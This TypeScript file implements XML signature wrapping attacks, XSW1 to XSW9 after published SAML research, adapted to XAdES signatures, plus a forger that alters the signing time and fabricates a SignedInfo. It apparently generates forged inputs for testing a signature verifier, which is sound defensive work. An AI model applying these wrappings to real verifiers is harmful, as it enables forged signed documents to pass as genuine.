/**
 * Signature wrapping as it was published for SAML (XSW1 to XSW8: Somorovsky and others, "On Breaking SAML", 2012; XSW9:
 * CVE-2019-3465), in the form that signatures have here. What SAML signs, an assertion in a response, is the element
 * `xades:SignedProperties` in its `xades:QualifyingProperties`; the message itself stands outside and is referred to.
 */
export interface Wrapping {
  readonly name: string;
  /** Where the genuine element goes, and where the forged one. */
  readonly title: string;
  readonly wrap: (xml: string, forgery: Forgery) => string;
}

export interface Forgery {
  /** What the attacker would have the signer say. */
  readonly forge: (signedProperties: string) => string;
  /** SignedInfo over another message. */
  readonly forgeSignedInfo: (signedInfo: string) => string;
}

function elementIn(xml: string, name: string): string {
  const found = new RegExp(`<${name}[ >].*?</${name}>`, 's').exec(xml)?.[0];
  if (found === undefined) throw new Error(`The signature has no ${name}`);
  return found;
}

const PROPERTIES = 'xades:SignedProperties';
const QUALIFYING = 'xades:QualifyingProperties';
const SIGNED_INFO = 'ds:SignedInfo';
const ID = ' Id="signed-properties"';

const genuine = (xml: string): string => elementIn(xml, PROPERTIES);
/** The parent of the signed element, without what else would betray it by its Ids. */
const genuineParent = (xml: string): string =>
  elementIn(xml, QUALIFYING).replace(/<xades:UnsignedProperties>.*<\/xades:UnsignedProperties>/s, '');
const replaced = (xml: string, from: string, to: string): string => xml.replace(from, () => to);
const evil = (xml: string, { forge }: Forgery, id = ' Id="evil"'): string => forge(genuine(xml)).replace(ID, id);
/** The forged properties in the place of the genuine ones. */
const inPlace = (xml: string, forgery: Forgery): string => replaced(xml, genuine(xml), evil(xml, forgery));
const beforeEndOf = (xml: string, tag: string, more: string): string => replaced(xml, `</${tag}>`, `${more}</${tag}>`);

export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1',
    title: 'the genuine parent moves into the signature, behind the forged one',
    wrap: (xml, forgery) => beforeEndOf(inPlace(xml, forgery), 'ds:Signature', genuineParent(xml)),
  },
  {
    name: 'XSW2',
    title: 'the genuine parent moves before the signature',
    wrap: (xml, forgery) => replaced(inPlace(xml, forgery), '<ds:Signature ', `${genuineParent(xml)}<ds:Signature `),
  },
  {
    name: 'XSW3',
    title: 'the forged element stands before the genuine one, beside it',
    wrap: (xml, forgery) => replaced(xml, genuine(xml), evil(xml, forgery) + genuine(xml)),
  },
  {
    name: 'XSW4',
    title: 'the forged element holds the genuine one',
    wrap: (xml, forgery) => replaced(xml, genuine(xml), beforeEndOf(evil(xml, forgery), PROPERTIES, genuine(xml))),
  },
  {
    name: 'XSW5',
    title: 'the forged element takes the place of the genuine one, which goes to the end of the document',
    wrap: (xml, forgery) => beforeEndOf(inPlace(xml, forgery), 'asic:XAdESSignatures', genuine(xml)),
  },
  {
    name: 'XSW6',
    title: 'the forged element takes the place of the genuine one, which goes to the end of the signature',
    wrap: (xml, forgery) => beforeEndOf(inPlace(xml, forgery), 'ds:Signature', genuine(xml)),
  },
  {
    name: 'XSW7',
    title: 'the forged element has the same Id and stands in an element that may hold anything',
    wrap: (xml, forgery) =>
      replaced(xml, `<${PROPERTIES}`, `<Extensions>${evil(xml, forgery, ID)}</Extensions><${PROPERTIES}`),
  },
  {
    name: 'XSW8',
    title: 'the forged element takes the place of the genuine one, which goes to another ds:Object',
    wrap: (xml, forgery) =>
      beforeEndOf(inPlace(xml, forgery), 'ds:Signature', `<ds:Object>${genuine(xml)}</ds:Object>`),
  },
  {
    name: 'XSW9',
    title: 'a second SignedInfo, of another message, stands behind the genuine one and its value',
    wrap: (xml, { forgeSignedInfo }) => {
      const signedInfo = elementIn(xml, SIGNED_INFO);
      return replaced(xml, '</ds:SignatureValue>', `</ds:SignatureValue>${forgeSignedInfo(signedInfo)}`);
    },
  },
  {
    name: 'XSW9',
    title: 'a second SignedInfo, of another message, stands before the genuine one',
    wrap: (xml, { forgeSignedInfo }) => {
      const signedInfo = elementIn(xml, SIGNED_INFO);
      return replaced(xml, signedInfo, forgeSignedInfo(signedInfo) + signedInfo);
    },
  },
];

/** A forger who moves the signing time, and signs for another message. */
export const FORGERY: Forgery = {
  forge: (properties) => properties.replace(/<xades:SigningTime>[^<]*/, '<xades:SigningTime>2020-01-01T00:00:00.000Z'),
  forgeSignedInfo: (signedInfo) =>
    signedInfo.replaceAll(/ Id="[^"]*"/g, '').replace(/<ds:DigestValue>[^<]*/, `<ds:DigestValue>${'A'.repeat(86)}==`),
};
